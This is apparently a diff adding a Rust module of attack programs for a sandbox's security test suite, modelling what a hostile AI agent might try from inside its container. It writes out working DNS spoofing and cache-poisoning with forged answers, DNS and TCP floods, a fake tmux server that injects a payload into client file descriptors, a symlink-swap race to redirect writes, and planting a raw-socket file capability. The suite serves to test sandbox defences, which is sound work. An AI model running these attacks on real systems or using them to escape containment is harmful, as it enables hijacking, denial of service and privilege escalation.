@@ -1,0 +1,423 @@
+//! What a hostile agent tries, as programs the `attacks::` suite runs as uid 1000 inside the
+//! sandbox (or, for the racing writer, in a second container). Each prints what it achieved as
+//! `key=value` lines; the test reads the evidence on the receiving side.
+
+use std::io::Write as _;
+use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
+use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
+use std::os::unix::net::UnixListener;
+use std::str::FromStr as _;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicI32, AtomicU64, Ordering};
+use std::time::{Duration, Instant};
+
+use hickory_proto::op::{Message, MessageType, OpCode, Query};
+use hickory_proto::rr::rdata::A;
+use hickory_proto::rr::{Name, RData, Record, RecordType};
+
+use crate::probes::{nameserver, outcome_of, query, query_packet, rcode};
+use crate::{Args, report};
+
+/// The kernel's ephemeral ports: where a resolver's query leaves from.
+fn ephemeral_ports() -> std::ops::RangeInclusive<u16> {
+    let text = std::fs::read_to_string("/proc/sys/net/ipv4/ip_local_port_range").unwrap_or_default();
+    let mut bounds = text.split_whitespace().filter_map(|p| p.parse().ok());
+    match (bounds.next(), bounds.next()) {
+        (Some(low), Some(high)) => low..=high,
+        _ => 32768..=60999,
+    }
+}
+
+/// A UDP socket bound to `addr`; with `freebind`, also to an address that is not ours.
+fn bind_udp(addr: SocketAddr, freebind: bool) -> std::io::Result<UdpSocket> {
+    let domain = socket2::Domain::for_address(addr);
+    let socket = socket2::Socket::new(domain, socket2::Type::DGRAM, None)?;
+    if freebind {
+        match addr {
+            SocketAddr::V4(_) => socket.set_freebind_v4(true)?,
+            SocketAddr::V6(_) => socket.set_freebind_v6(true)?,
+        }
+    }
+    socket.bind(&addr.into())?;
+    Ok(socket.into())
+}
+
+/// An answer to `name` (A) with id `id` that points at `address` for `ttl` seconds.
+fn forged_answer(id: u16, name: &Name, address: std::net::Ipv4Addr, ttl: u32) -> Vec<u8> {
+    let mut reply = Message::new();
+    reply
+        .set_id(id)
+        .set_message_type(MessageType::Response)
+        .set_op_code(OpCode::Query)
+        .set_recursion_desired(true)
+        .set_recursion_available(true);
+    reply.add_query(Query::query(name.clone(), RecordType::A));
+    reply.add_answer(Record::from_rdata(name.clone(), ttl, RData::A(A(address))));
+    reply.to_vec().unwrap_or_default()
+}
+
+/// `forge-dns --bind IP:PORT [--freebind] --name NAME --answer IPV4 [--ttl S] [--spray IP]
+/// [--blind IP] [--id N] [--asks N] [--ms N]`: pose as the upstream resolver. From a socket bound to the
+/// upstream's address:
+/// - `--spray IP`: first one datagram to every ephemeral port of IP, so each becomes a
+///   connection-tracking entry whose reply side is a query the gate may send later;
+/// - every query that lands on the socket is answered with IPV4 and a long TTL;
+/// - `--blind IP`: while the gate waits, forged answers with id N to every port of IP.
+///
+/// Meanwhile it asks the gate for NAME and reports what the gate answered.
+pub fn forge_dns(args: &Args) {
+    let bind: SocketAddr = match args.flag("--bind").and_then(|b| b.parse().ok()) {
+        Some(bind) => bind,
+        None => return report(&[("outcome", "bad --bind".into())]),
+    };
+    let name = Name::from_str(&args.flag("--name").unwrap_or_default()).unwrap_or_default();
+    let answer: std::net::Ipv4Addr =
+        args.flag("--answer").and_then(|a| a.parse().ok()).unwrap_or([10, 66, 6, 6].into());
+    let ttl: u32 = args.number("--ttl", 86_400);
+    let id: u16 = args.number("--id", 0x4242);
+    let socket = match bind_udp(bind, args.has("--freebind")) {
+        Ok(socket) => Arc::new(socket),
+        Err(e) => return report(&[("outcome", format!("bind:{}", outcome_of(&e)))]),
+    };
+    let (mut sprayed, mut spray_failed) = (0u32, 0u32);
+    if let Some(target) = args.flag("--spray").and_then(|t| t.parse::<IpAddr>().ok()) {
+        for port in ephemeral_ports() {
+            match socket.send_to(b"\0", (target, port)) {
+                Ok(_) => sprayed += 1,
+                Err(_) => spray_failed += 1,
+            }
+        }
+    }
+    let stop = Arc::new(AtomicBool::new(false));
+    let hijacked = Arc::new(AtomicU64::new(0));
+    let listener = {
+        let (socket, stop, hijacked) = (socket.clone(), stop.clone(), hijacked.clone());
+        std::thread::spawn(move || {
+            socket.set_read_timeout(Some(Duration::from_millis(50))).ok();
+            let mut buf = [0u8; 4096];
+            while !stop.load(Ordering::Relaxed) {
+                let Ok((len, from)) = socket.recv_from(&mut buf) else { continue };
+                let Ok(query) = Message::from_vec(&buf[..len]) else { continue };
+                let Some(question) = query.queries().first() else { continue };
+                hijacked.fetch_add(1, Ordering::Relaxed);
+                let _ = socket.send_to(&forged_answer(query.id(), question.name(), answer, ttl), from);
+            }
+        })
+    };
+    let blind = args.flag("--blind").and_then(|t| t.parse::<IpAddr>().ok()).map(|target| {
+        let (socket, stop, name) = (socket.clone(), stop.clone(), name.clone());
+        std::thread::spawn(move || {
+            let packet = forged_answer(id, &name, answer, ttl);
+            let mut sent = 0u64;
+            while !stop.load(Ordering::Relaxed) {
+                for port in ephemeral_ports() {
+                    if socket.send_to(&packet, (target, port)).is_ok() {
+                        sent += 1;
+                    }
+                }
+            }
+            sent
+        })
+    });
+    std::thread::sleep(Duration::from_millis(100));
+    let mut answers = Vec::new();
+    let mut outcome = String::from("dns:no-nameserver");
+    if let Some(gate) = nameserver() {
+        for _ in 0..args.number("--asks", 3) {
+            match query(&name.to_ascii(), RecordType::A, gate, Duration::from_secs(5), Some(id)) {
+                Ok(reply) => {
+                    outcome = format!("dns:{}", rcode(reply.response_code()));
+                    answers.extend(reply.answers().iter().filter_map(|r| match r.data() {
+                        RData::A(a) => Some(a.0.to_string()),
+                        _ => None,
+                    }));
+                }
+                Err(e) => outcome = format!("dns:{e}"),
+            }
+        }
+    }
+    std::thread::sleep(Duration::from_millis(args.number("--ms", 0)));
+    stop.store(true, Ordering::Relaxed);
+    let _ = listener.join();
+    let blind_sent = blind.map(|t| t.join().unwrap_or(0)).unwrap_or(0);
+    answers.sort();
+    answers.dedup();
+    report(&[
+        ("sprayed", sprayed.to_string()),
+        ("spray_failed", spray_failed.to_string()),
+        ("blind_sent", blind_sent.to_string()),
+        ("hijacked", hijacked.load(Ordering::Relaxed).to_string()),
+        ("outcome", outcome),
+        ("answers", answers.join(",")),
+    ]);
+}
+
+/// `dns-flood NAME COUNT [--distinct] [--server IP]`: COUNT queries as fast as one socket can
+/// send them, never waiting for an answer (each is a task for the gate).
+pub fn dns_flood(args: &Args) {
+    let name = args.arg(1);
+    let count: u64 = args.arg(2).parse().unwrap_or(10_000);
+    let Some(server) = args.flag("--server").and_then(|s| s.parse().ok()).or_else(nameserver) else {
+        return report(&[("outcome", "dns:no-nameserver".into())]);
+    };
+    let socket = match UdpSocket::bind("0.0.0.0:0").and_then(|s| s.connect((server, 53)).map(|_| s)) {
+        Ok(socket) => socket,
+        Err(e) => return report(&[("outcome", outcome_of(&e))]),
+    };
+    let started = Instant::now();
+    let (mut sent, mut failed) = (0u64, 0u64);
+    for i in 0..count {
+        let qname = if args.has("--distinct") { format!("f{i}.{name}") } else { name.clone() };
+        let Ok(packet) = query_packet(&qname, RecordType::A, Some(i as u16)) else { continue };
+        match socket.send(&packet) {
+            Ok(_) => sent += 1,
+            Err(_) => failed += 1,
+        }
+    }
+    report(&[
+        ("sent", sent.to_string()),
+        ("failed", failed.to_string()),
+        ("qps", format!("{:.0}", sent as f64 / started.elapsed().as_secs_f64())),
+    ]);
+}
+
+/// `tcp-flood ADDR PORT COUNT --ms N`: opens up to COUNT connections and holds them N ms.
+pub fn tcp_flood(args: &Args) {
+    let Ok(addr) = args.arg(1).parse::<IpAddr>() else { return report(&[("outcome", "bad-address".into())]) };
+    let target = SocketAddr::new(addr, args.arg(2).parse().unwrap_or(53));
+    let count: usize = args.arg(3).parse().unwrap_or(1000);
+    let (mut held, mut failed) = (Vec::new(), 0);
+    for _ in 0..count {
+        match TcpStream::connect_timeout(&target, Duration::from_millis(300)) {
+            Ok(stream) => held.push(stream),
+            Err(_) => failed += 1,
+        }
+        if failed > 50 {
+            break;
+        }
+    }
+    println!("opened={}", held.len());
+    let _ = std::io::stdout().flush();
+    std::thread::sleep(Duration::from_millis(args.number("--ms", 5000)));
+    report(&[("failed", failed.to_string())]);
+}
+
+/// `fake-tmux SOCKET PAYLOAD --ms N`: takes over the tmux server's socket (the agent owns its
+/// directory) and, to every client that connects, writes PAYLOAD (`\n` for newlines) into each
+/// file descriptor the client hands over, its stdout among them: whatever asks "tmux list-panes"
+/// reads the agent's answer.
+pub fn fake_tmux(args: &Args) {
+    let path = args.arg(1);
+    let payload = args.arg(2).replace("\\n", "\n");
+    let _ = std::fs::remove_file(&path);
+    let listener = match UnixListener::bind(&path) {
+        Ok(listener) => listener,
+        Err(e) => return report(&[("outcome", format!("bind:{}", outcome_of(&e)))]),
+    };
+    listener.set_nonblocking(true).ok();
+    println!("listening={path}");
+    let _ = std::io::stdout().flush();
+    let deadline = Instant::now() + Duration::from_millis(args.number("--ms", 10_000));
+    let served = Arc::new(AtomicU64::new(0));
+    while Instant::now() < deadline {
+        match listener.accept() {
+            Ok((stream, _)) => {
+                let (payload, served) = (payload.clone(), served.clone());
+                std::thread::spawn(move || {
+                    stream.set_nonblocking(false).ok();
+                    stream.set_read_timeout(Some(Duration::from_millis(300))).ok();
+                    while let Some(fds) = recv_fds(stream.as_raw_fd()) {
+                        for fd in fds {
+                            // SAFETY: write to a descriptor we were handed and own.
+                            unsafe { libc::write(fd.as_raw_fd(), payload.as_ptr().cast(), payload.len()) };
+                        }
+                    }
+                    served.fetch_add(1, Ordering::Relaxed);
+                });
+            }
+            Err(_) => std::thread::sleep(Duration::from_millis(5)),
+        }
+    }
+    report(&[("served", served.load(Ordering::Relaxed).to_string())]);
+}
+
+/// One message from a unix socket: the descriptors it carried. None at the end or on timeout.
+fn recv_fds(socket: i32) -> Option<Vec<OwnedFd>> {
+    let mut data = [0u8; 16384];
+    let mut control = [0u64; 64];
+    let mut iov = libc::iovec { iov_base: data.as_mut_ptr().cast(), iov_len: data.len() };
+    // SAFETY: a zeroed msghdr pointing at buffers on this stack frame.
+    let mut header: libc::msghdr = unsafe { std::mem::zeroed() };
+    header.msg_iov = &mut iov;
+    header.msg_iovlen = 1;
+    header.msg_control = control.as_mut_ptr().cast();
+    header.msg_controllen = std::mem::size_of_val(&control) as _;
+    // SAFETY: recvmsg into the buffers above.
+    let len = unsafe { libc::recvmsg(socket, &mut header, 0) };
+    if len <= 0 {
+        return None;
+    }
+    let mut fds = Vec::new();
+    // SAFETY: walking the control messages the kernel wrote into `control`.
+    unsafe {
+        let mut cmsg = libc::CMSG_FIRSTHDR(&header);
+        while !cmsg.is_null() {
+            if (*cmsg).cmsg_level == libc::SOL_SOCKET && (*cmsg).cmsg_type == libc::SCM_RIGHTS {
+                let count = ((*cmsg).cmsg_len as usize - libc::CMSG_LEN(0) as usize) / 4;
+                let first = libc::CMSG_DATA(cmsg).cast::<i32>();
+                for i in 0..count {
+                    fds.push(OwnedFd::from_raw_fd(first.add(i).read_unaligned()));
+                }
+            }
+            cmsg = libc::CMSG_NXTHDR(&header, cmsg);
+        }
+    }
+    Some(fds)
+}
+
+/// `race-state DIR FILE TARGET --dirs N --ms M`: in DIR (a state volume shared with a starting
+/// sandbox), N pairs of a directory holding FILE and a symbolic link to TARGET, swapped in place
+/// (RENAME_EXCHANGE) as fast as possible, DIR kept root's so the sandbox hands it over. A walk
+/// that checks a name and then uses its path follows the link and reaches TARGET/FILE.
+pub fn race_state(args: &Args) {
+    let dir = std::path::PathBuf::from(args.arg(1));
+    let (file, target) = (args.arg(2), args.arg(3));
+    let pairs: usize = args.number("--dirs", 200);
+    let deadline = Instant::now() + Duration::from_millis(args.number("--ms", 20_000));
+    let mut names = Vec::new();
+    for i in 0..pairs {
+        let (real, link) = (dir.join(format!("d{i}")), dir.join(format!("l{i}")));
+        let _ = std::fs::create_dir_all(&real);
+        let _ = std::fs::write(real.join(&file), "planted by the racer\n");
+        let _ = std::os::unix::fs::symlink(&target, &link);
+        let c = |p: &std::path::Path| std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
+        names.push((c(&real), c(&link)));
+    }
+    let top = std::ffi::CString::new(dir.as_os_str().as_encoded_bytes()).unwrap();
+    println!("racer ready");
+    let _ = std::io::stdout().flush();
+    let mut swaps = 0u64;
+    while Instant::now() < deadline {
+        // SAFETY: chown and renameat2 on paths we created.
+        unsafe { libc::lchown(top.as_ptr(), 0, 0) };
+        for (a, b) in &names {
+            // SAFETY: as above.
+            let done = unsafe {
+                libc::syscall(
+                    libc::SYS_renameat2,
+                    libc::AT_FDCWD,
+                    a.as_ptr(),
+                    libc::AT_FDCWD,
+                    b.as_ptr(),
+                    libc::RENAME_EXCHANGE,
+                )
+            };
+            if done == 0 {
+                swaps += 1;
+            }
+        }
+    }
+    report(&[("swaps", swaps.to_string())]);
+}
+
+static SENTINEL_FD: AtomicI32 = AtomicI32::new(-1);
+
+extern "C" fn record_signal(signal: libc::c_int) {
+    let mut line = *b"signal 00\n";
+    line[7] = b'0' + (signal / 10 % 10) as u8;
+    line[8] = b'0' + (signal % 10) as u8;
+    // SAFETY: write is async-signal-safe; the descriptor stays open for the process's life.
+    unsafe { libc::write(SENTINEL_FD.load(Ordering::Relaxed), line.as_ptr().cast(), line.len()) };
+}
+
+/// `sentinel FILE`: a process that writes `pid N` to FILE, then `signal N` for every SIGTERM,
+/// SIGINT, SIGHUP or SIGUSR1 it receives, and otherwise waits for ever: the evidence of who got
+/// signalled.
+pub fn sentinel(args: &Args) {
+    let Ok(mut file) = std::fs::OpenOptions::new().create(true).append(true).open(args.arg(1)) else {
+        std::process::exit(1);
+    };
+    let _ = writeln!(file, "pid {}", std::process::id());
+    SENTINEL_FD.store(file.as_raw_fd(), Ordering::Relaxed);
+    std::mem::forget(file);
+    for signal in [libc::SIGTERM, libc::SIGINT, libc::SIGHUP, libc::SIGUSR1] {
+        // SAFETY: the handler only calls write.
+        unsafe { libc::signal(signal, record_signal as *const () as libc::sighandler_t) };
+    }
+    loop {
+        // SAFETY: pause has no preconditions.
+        unsafe { libc::pause() };
+    }
+}
+
+/// `set-file-cap FILE` (as root): a copy of this program at FILE carrying a file capability
+/// (CAP_NET_RAW, effective: in Docker's default set, so any user who runs it gets raw sockets):
+/// what an image must never ship.
+pub fn set_file_cap(args: &Args) {
+    let path = args.arg(1);
+    let copied = std::fs::copy("/proc/self/exe", &path);
+    // struct vfs_cap_data, revision 2: magic with the effective flag, then permitted and
+    // inheritable, low and high words.
+    let mut data = (0x0200_0000u32 | 1).to_le_bytes().to_vec();
+    for word in [1u32 << 13, 0, 0, 0] {
+        data.extend(word.to_le_bytes());
+    }
+    let c_path = std::ffi::CString::new(path.clone()).unwrap();
+    // SAFETY: setxattr with a C string and a buffer we own.
+    let set = unsafe {
+        libc::setxattr(c_path.as_ptr(), c"security.capability".as_ptr(), data.as_ptr().cast(), data.len(), 0)
+    };
+    let outcome = match (copied, set) {
+        (Ok(_), 0) => "set".to_string(),
+        (Err(e), _) => format!("copy:{}", outcome_of(&e)),
+        _ => format!("setxattr:{}", outcome_of(&std::io::Error::last_os_error())),
+    };
+    report(&[("outcome", outcome)]);
+}
+
+/// `privileged-files ROOT`: every regular file on ROOT's file system that could raise the
+/// privileges of a process not under no_new_privs: setuid or setgid bits, or a file capability
+/// (`security.capability`). One `setid PATH` or `caps PATH` line each, then `checked=N`.
+pub fn privileged_files(args: &Args) {
+    use std::os::unix::fs::MetadataExt as _;
+    let root = std::path::PathBuf::from(args.arg(1));
+    let Ok(dev) = std::fs::symlink_metadata(&root).map(|m| m.dev()) else {
+        return report(&[("outcome", "unreadable".into())]);
+    };
+    let (mut pending, mut checked) = (vec![root], 0u64);
+    while let Some(dir) = pending.pop() {
+        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
+        for entry in entries.flatten() {
+            let Ok(meta) = entry.metadata() else { continue };
+            if meta.dev() != dev {
+                continue;
+            }
+            let path = entry.path();
+            if meta.is_dir() {
+                pending.push(path);
+            } else if meta.is_file() {
+                checked += 1;
+                if meta.mode() & 0o6000 != 0 {
+                    println!("setid {}", path.display());
+                }
+                let c_path = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
+                // SAFETY: lgetxattr asking only for the size.
+                let size = unsafe {
+                    libc::lgetxattr(c_path.as_ptr(), c"security.capability".as_ptr(), std::ptr::null_mut(), 0)
+                };
+                if size >= 0 {
+                    println!("caps {}", path.display());
+                }
+            }
+        }
+    }
+    report(&[("checked", checked.to_string())]);
+}
+
+/// `caps`: this process's capability sets, as /proc shows them.
+pub fn caps() {
+    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
+    for line in status.lines().filter(|l| l.starts_with("Cap") || l.starts_with("Uid")) {
+        println!("{}", line.replace(":\t", "=").replace('\t', " "));
+    }
+}
